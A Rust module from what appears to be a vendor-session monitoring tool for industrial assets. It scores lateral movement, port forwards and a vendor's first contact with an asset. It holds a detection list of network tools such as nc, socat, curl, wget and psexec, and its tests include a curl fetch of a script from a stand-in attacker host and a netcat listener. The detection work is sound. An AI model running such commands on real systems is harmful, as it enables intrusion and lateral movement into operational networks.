//! Reach: a vendor's first contact with an asset, and lateral movement from inside a session
//! (commands that open connections to other hosts, forwards to hosts other than the asset).

use crate::score::Finding;
use crate::words::Program;

/// Programs that open connections to other hosts.
pub const LATERAL: [&str; 24] = [
    "ssh",
    "scp",
    "sftp",
    "rsync",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "ftp",
    "tftp",
    "curl",
    "wget",
    "nmap",
    "masscan",
    "zmap",
    "hping3",
    "rdesktop",
    "xfreerdp",
    "smbclient",
    "psexec",
    "mbpoll",
    "modbus",
    "plink",
];

/// Whether a word names a host: an IPv4 address, `user@host`, a URL, or `host:port`.
fn host_in(word: &str) -> Option<String> {
    let word = word.trim_matches(|c| c == '"' || c == '\'');
    let rest = word
        .split_once("://")
        .map_or(word, |(_, rest)| rest)
        .rsplit('@')
        .next()
        .unwrap_or(word);
    let host = rest.split(['/', ':']).next().unwrap_or(rest);
    let is_ipv4 = host.split('.').count() == 4 && host.split('.').all(|p| p.parse::<u8>().is_ok());
    let is_name = word.contains('@') || word.contains("://");
    (!host.is_empty() && (is_ipv4 || is_name)).then(|| host.to_owned())
}

/// Scores programs that reach other hosts. `addresses` are the asset's own.
pub fn score_lateral(asset: &str, addresses: &[String], program: &Program, out: &mut Vec<Finding>) {
    if !LATERAL.contains(&program.name.as_str()) {
        return;
    }
    let target = program
        .args
        .iter()
        .filter(|a| !a.starts_with('-'))
        .find_map(|a| host_in(a));
    match target {
        Some(host)
            if !addresses.iter().any(|a| a == &host)
                && host != "127.0.0.1"
                && host != "localhost" =>
        {
            out.push(Finding::new(
                "lateral",
                65,
                format!(
                    "`{}` opens a connection from {asset} to another host ({host})",
                    program.name
                ),
            ));
        }
        _ => out.push(Finding::new(
            "lateral",
            45,
            format!("`{}` on {asset} can reach other hosts", program.name),
        )),
    }
}

/// Scores a port forward to a host other than the asset.
pub fn score_forward(
    asset: &str,
    addresses: &[String],
    host: &str,
    port: u16,
    out: &mut Vec<Finding>,
) {
    if addresses.iter().any(|a| a == host) {
        return;
    }
    out.push(Finding::new(
        "lateral",
        45,
        format!("port forward from {asset}'s session to {host}:{port}"),
    ));
}

/// Scores a vendor's first session on an asset, once the vendor has a history.
pub fn score_first_contact(
    vendor: &str,
    asset: &str,
    known: bool,
    warm: bool,
    out: &mut Vec<Finding>,
) {
    if warm && !known {
        out.push(Finding::new(
            "reach",
            30,
            format!("first session of {vendor} on {asset}"),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::words::programs;

    fn lateral(line: &str) -> Vec<Finding> {
        let mut out = Vec::new();
        for p in programs(line) {
            score_lateral("hmi-1", &["10.0.0.5".into()], &p, &mut out);
        }
        out
    }

    #[test]
    fn connections_to_other_hosts_score() {
        assert!(lateral("ls -la").is_empty());
        let out = lateral("ssh admin@10.0.0.7");
        assert_eq!(out[0].score, 65);
        assert!(out[0].text.contains("another host (10.0.0.7)"), "{out:?}");
        assert_eq!(lateral("curl http://evil.example/x.sh")[0].score, 65);
        assert_eq!(lateral("nc -l 4444")[0].score, 45);
        assert_eq!(lateral("ping 10.0.0.5").len(), 0);
        assert_eq!(lateral("ssh 10.0.0.5")[0].score, 45);
    }

    #[test]
    fn first_contact_needs_history() {
        let mut out = Vec::new();
        score_first_contact("v", "a", false, false, &mut out);
        score_first_contact("v", "a", true, true, &mut out);
        assert!(out.is_empty());
        score_first_contact("v", "a", false, true, &mut out);
        assert_eq!(out[0].text, "first session of v on a");
    }
}
